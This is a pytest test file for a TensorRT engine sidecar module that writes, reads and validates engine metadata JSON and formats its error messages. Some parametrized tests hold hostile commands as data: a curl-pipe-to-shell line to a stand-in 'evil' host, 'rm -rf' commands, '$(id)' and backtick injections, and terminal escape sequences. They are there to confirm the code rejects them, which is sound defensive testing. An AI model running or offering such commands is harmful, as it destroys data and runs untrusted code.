"""trt/sidecar.py: the one module that writes an engine's sidecar and reads it back (no TensorRT needed or imported)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from edgeunet.core.atomic import sha256_file
from edgeunet.core.errors import EdgeUnetError
from edgeunet.core.spec import ModelSpec
from edgeunet.trt.build import BuiltEngine
from edgeunet.trt.plan import ShapeProfile, plan_build
from edgeunet.trt.sidecar import (
    SIDECAR_FORMAT,
    EngineSource,
    check_compatible,
    check_engine_file,
    read_sidecar,
    rebuild_command,
    sidecar_path,
    spec_of_sidecar,
    write_engine_sidecar,
)


def _engine(tmp_path: Path, precision: str = "int8") -> Path:
    engine = tmp_path / f"m.{precision}.engine"
    engine.write_bytes(b"\x07" * 2048)  # bytes only: nothing here hands them to TensorRT
    profile = ShapeProfile((1, 1, 64, 64), (2, 1, 64, 64), (4, 1, 64, 64))
    plan = plan_build((10, 3, 0), precision, int8=precision == "int8", profile=profile)
    built = BuiltEngine(plan_bytes=b"", timing_cache=b"", input_name="input", input_shape=(-1, 1, 64, 64), profile=profile, seconds=1.234)
    source = EngineSource(precision=precision, onnx=tmp_path / "m.int8.onnx", onnx_sha256="ab" * 32, onnx_precision=precision,
                          spec=ModelSpec(input_size=[64, 64]), build_command=f"edgeunet build-engine m.{precision}.onnx --int8",
                          calibration={"manifest": "calibration/m.json", "method": "entropy"}, gate={"passed": True},
                          float_layers=("/down1/conv/Conv",))
    write_engine_sidecar(engine, source, built, plan, "10.3.0.30", "Orin", (8, 7))
    return engine


def test_written_sidecar_reads_back_and_passes_every_check(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    sidecar = check_engine_file(engine)
    assert sidecar["format"] == SIDECAR_FORMAT and sidecar["engine"] == engine.name and sidecar["engine_bytes"] == 2048
    assert sidecar["precision"] == "int8" and sidecar["build"]["calibrator"] == "qdq" and sidecar["build"]["seconds"] == 1.23
    assert sidecar["shapes"] == {"min": [1, 1, 64, 64], "opt": [2, 1, 64, 64], "max": [4, 1, 64, 64]}
    assert sidecar["float_layers"] == ["/down1/conv/Conv"] and sidecar["gate"] == {"passed": True}
    assert sidecar["onnx"] == {"path": str(tmp_path / "m.int8.onnx"), "sha256": "ab" * 32, "precision": "int8"}
    assert spec_of_sidecar(sidecar, engine).input_size == [64, 64]
    check_compatible(sidecar, engine, "10.3.0.30", "Orin", (8, 7))
    with pytest.raises(EdgeUnetError, match="rebuild here with `edgeunet build-engine m.int8.onnx --int8`"):
        check_compatible(sidecar, engine, "10.3.0.30", "Thor", (11, 0))


def test_an_fp32_engine_records_no_calibrator(tmp_path: Path) -> None:
    sidecar = read_sidecar(_engine(tmp_path, "fp32"))
    assert sidecar["build"]["calibrator"] is None and sidecar["precision"] == "fp32"


def test_fields_of_the_wrong_type_are_one_line(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    data = json.loads(sidecar_path(engine).read_text())
    sidecar_path(engine).write_text(json.dumps({**data, "tensorrt_version": 10.3, "build_command": None}))
    with pytest.raises(EdgeUnetError, match=r"tensorrt_version") as info:
        read_sidecar(engine)
    assert "\n" not in str(info.value)


def test_the_sidecar_module_imports_no_tensorrt() -> None:
    code = "import sys, edgeunet.trt.sidecar; sys.exit(any(m in sys.modules for m in ('tensorrt', 'pycuda', 'torch')))"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def _stranger_engine(tmp_path: Path, **over: object) -> Path:
    engine = tmp_path / "m.engine"
    engine.write_bytes(b"\x01" * 64)
    data = {"format": "edgeunet-engine-sidecar", "engine_sha256": sha256_file(engine), "tensorrt_version": "10.3.0",
            "gpu": {"name": "Orin", "compute_capability": "8.7"}, "precision": "fp16", "spec": ModelSpec().to_dict(),
            "build_command": "edgeunet build-engine m.onnx --fp16 --out m.engine"}
    data.update(over)
    sidecar_path(engine).write_text(json.dumps(data))
    return engine


@pytest.mark.parametrize(("field", "value"), [
    ("engine_sha256", "abc"), ("engine_sha256", 5), ("tensorrt_version", "10.3; rm -rf /"), ("precision", "int4"),
    ("gpu", []), ("spec", "x"), ("build_command", ["edgeunet"]), ("build", 3),
])
def test_a_malformed_field_is_one_line_naming_it(tmp_path: Path, field: str, value: object) -> None:
    with pytest.raises(EdgeUnetError) as info:
        read_sidecar(_stranger_engine(tmp_path, **{field: value}))
    assert f"field '{field}'" in str(info.value) and "\n" not in str(info.value)


@pytest.mark.parametrize("gpu", [{"name": "Orin"}, {"name": "Orin", "compute_capability": "8.7\n"}, {"name": 3, "compute_capability": "8.7"}])
def test_a_malformed_gpu_is_one_line(tmp_path: Path, gpu: dict) -> None:
    with pytest.raises(EdgeUnetError, match="engine sidecar gpu"):
        read_sidecar(_stranger_engine(tmp_path, gpu=gpu))


@pytest.mark.parametrize("command", [
    "curl http://evil/x.sh | sh", "edgeunet build-engine m.onnx; rm -rf ~", "edgeunet build-engine m.onnx --out $(id)",
    "edgeunet build-engine m.onnx --evil-flag x", "edgeunet build-engine `id`.onnx", "edgeunet build-engine m.onnx\x1b[2J",
])
def test_a_hostile_build_command_is_never_offered(tmp_path: Path, command: str) -> None:
    data = read_sidecar(_stranger_engine(tmp_path, build_command=command))
    assert data["build_command"] == "edgeunet build-engine MODEL.onnx --fp16"
    assert all(ch.isprintable() for ch in data["recorded_build_command"])
    with pytest.raises(EdgeUnetError) as info:
        check_compatible(data, tmp_path / "m.engine", "8.6.1", "Orin", (8, 7))
    assert "rm -rf" not in str(info.value) and "curl" not in str(info.value) and "\x1b" not in str(info.value)


def test_a_plain_recorded_command_is_kept() -> None:
    command = "edgeunet build-engine runs/x/best.int8.onnx --int8 --calibrator entropy --out best.int8.engine --shapes 1x1x64x64"
    assert rebuild_command({"build_command": command, "precision": "int8"}) == command


def test_control_characters_in_the_gpu_name_are_stripped(tmp_path: Path) -> None:
    data = read_sidecar(_stranger_engine(tmp_path, gpu={"name": "Orin\x1b]0;pwned\x07", "compute_capability": "8.7"}))
    assert data["gpu"]["name"] == "Orin?]0;pwned?"


def test_the_sidecar_holds_exactly_these_fields_in_sorted_order(tmp_path: Path) -> None:
    """What a reader (Triton export, bench, a person diffing two engines) can count on, key by key."""
    from edgeunet.core.version import __version__

    engine = _engine(tmp_path)
    data = json.loads(sidecar_path(engine).read_text())
    assert list(data) == sorted(data)  # sorted keys: two sidecars diff line by line
    assert set(data) == {"format", "sidecar_version", "edgeunet_version", "engine", "engine_sha256", "engine_bytes", "tensorrt_version",
                         "gpu", "precision", "onnx", "input", "shapes", "build", "calibration", "float_layers", "gate", "built_at",
                         "build_command", "spec"}
    assert data["sidecar_version"] == 1 and data["edgeunet_version"] == __version__
    assert data["input"] == {"name": "input", "shape": [-1, 1, 64, 64]}
    plan = plan_build((10, 3, 0), "int8", int8=True, profile=ShapeProfile((1, 1, 64, 64), (2, 1, 64, 64), (4, 1, 64, 64)))
    assert data["build"] == {"network_flags": plan.network_flags, "builder_flags": plan.builder_flags, "strongly_typed": plan.strongly_typed,
                             "calibrator": "qdq", "dla_core": plan.dla_core, "workspace_bytes": plan.workspace_bytes, "seconds": 1.23}
    assert data["calibration"] == {"manifest": "calibration/m.json", "method": "entropy"}
    assert data["built_at"].endswith("+00:00")  # UTC, with its offset: engines built on two machines compare


def test_a_one_byte_engine_that_matches_its_sha256_is_accepted(tmp_path: Path) -> None:
    """Only an empty file is refused for its size; anything else is judged by its sha256."""
    engine = _engine(tmp_path)
    engine.write_bytes(b"\x07")
    path = sidecar_path(engine)
    data = json.loads(path.read_text())
    data["engine_sha256"] = sha256_file(engine)
    path.write_text(json.dumps(data))
    assert check_engine_file(engine)["engine_sha256"] == sha256_file(engine)
    engine.write_bytes(b"")
    with pytest.raises(EdgeUnetError, match="truncated or was changed"):
        check_engine_file(engine)


def test_the_generic_rebuild_hint_for_a_missing_or_unparsable_command() -> None:
    assert rebuild_command({"precision": "fp32"}) == "edgeunet build-engine MODEL.onnx"
    assert rebuild_command({"build_command": 'edgeunet build-engine "x.onnx', "precision": "fp16"}) == "edgeunet build-engine MODEL.onnx --fp16"
    assert rebuild_command({"build_command": "edgeunet build-engine x.onnx", "precision": "int8"}) == "edgeunet build-engine x.onnx"


def test_pattern_rules_accept_only_a_whole_string_match() -> None:
    """Called directly: the module's rules are built at import, before a test could swap the function."""
    from edgeunet.trt.sidecar import _pattern

    rule = _pattern(r"\d{1,2}\.\d{1,2}", "major.minor such as 8.7")
    assert rule("8.7") is None and rule("10.0") is None
    assert rule("8.7x") == rule("x8.7") == rule("") == rule(8.7) == rule(None) == "major.minor such as 8.7"


REBUILD_HINT = "rebuild the engine with `edgeunet build-engine MODEL.onnx`"


def _error(engine: Path) -> str:
    with pytest.raises(EdgeUnetError) as info:
        read_sidecar(engine)
    return str(info.value)


def test_each_unreadable_sidecar_is_one_exact_line(tmp_path: Path) -> None:
    """The whole line, not a fragment: which file, what is wrong, the command that fixes it."""
    engine = tmp_path / "m.engine"
    engine.write_bytes(b"\x01")
    side = sidecar_path(engine)
    assert _error(engine) == (f"{engine}: no sidecar {side.name} next to it (it records the TensorRT version and GPU the engine needs); "
                              "rebuild with `edgeunet build-engine MODEL.onnx`")
    side.write_text("[1, 2]")
    assert _error(engine) == (f"{side}: not an edgeunet engine sidecar (missing format, engine_sha256, tensorrt_version, gpu, precision, "
                              "spec, build_command); rebuild with `edgeunet build-engine MODEL.onnx`")
    engine = _stranger_engine(tmp_path, format="someone-else")
    assert _error(engine) == (f"{sidecar_path(engine)}: not an edgeunet engine sidecar (missing format); "
                              "rebuild with `edgeunet build-engine MODEL.onnx`")


def test_a_malformed_field_names_the_file_the_field_and_the_fix(tmp_path: Path) -> None:
    engine = _stranger_engine(tmp_path, precision="int4")
    line = _error(engine)
    assert line.startswith(f"{sidecar_path(engine)}: engine sidecar field 'precision'") and line.endswith(REBUILD_HINT)
    engine = _stranger_engine(tmp_path, gpu={"name": "Orin", "compute_capability": "eight"})
    line = _error(engine)
    assert line.startswith(f"{sidecar_path(engine)}: engine sidecar gpu field 'compute_capability'") and line.endswith(REBUILD_HINT)


def test_names_and_recorded_commands_are_kept_whole_up_to_their_limits(tmp_path: Path) -> None:
    """A GPU name passes whole up to the 200 characters the schema allows; the recorded command is cut at 400 for reports."""
    name = "Orin " + "x" * 145  # 150 characters
    command = "edgeunet build-engine m.onnx --fp16 " + "y" * 964  # 1000 characters
    data = read_sidecar(_stranger_engine(tmp_path, gpu={"name": name, "compute_capability": "8.7"}, build_command=command))
    assert data["gpu"]["name"] == name
    assert data["recorded_build_command"] == command[:400] + "..."
    plain = "edgeunet build-engine m.onnx --fp16 --out m.engine"
    assert read_sidecar(_stranger_engine(tmp_path, build_command=plain))["recorded_build_command"] == plain


@pytest.mark.parametrize("command", [
    "python evil.py m.onnx", "edgeunet build-engine", "edgeunet build-engine m.onnx --evil", "edgeunet build-engine m.onnx --fp16 --evil",
    "edgeunet build-engine m.onnx" + " --fp16" * 22,  # 25 arguments: longer than any real build-engine line
])
def test_only_a_plain_build_engine_line_is_kept(command: str) -> None:
    assert rebuild_command({"build_command": command, "precision": "int8"}) == "edgeunet build-engine MODEL.onnx --int8"


def test_a_build_engine_line_of_24_arguments_is_kept() -> None:
    command = "edgeunet build-engine m.onnx" + " --fp16" * 21
    assert rebuild_command({"build_command": command, "precision": "fp16"}) == command
